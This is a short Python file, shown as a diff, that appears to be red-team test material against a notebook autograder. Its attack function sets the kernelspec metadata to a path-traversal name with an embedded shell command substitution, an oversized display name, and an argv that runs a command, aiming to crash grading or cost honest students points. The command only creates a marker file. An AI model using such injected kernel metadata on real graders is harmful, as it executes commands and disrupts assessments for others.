@@ -1,0 +1,16 @@
+"""The notebook's kernel has a path, a command or nothing at all for a name.
+
+Success: a trace, the class stops, or the honest points are lost.
+"""
+
+DESERVES = "everything"
+
+
+def attack(submission):
+    submission.solve()
+    submission.notebook.metadata["kernelspec"] = {
+        "name": "../../../../tmp/$(touch /tmp/red-team-was-here)",
+        "display_name": "x" * 10000,
+        "argv": ["touch", "/tmp/red-team-was-here"],
+    }
+    submission.notebook.metadata["language_info"] = {"name": "python", "version": [3]}
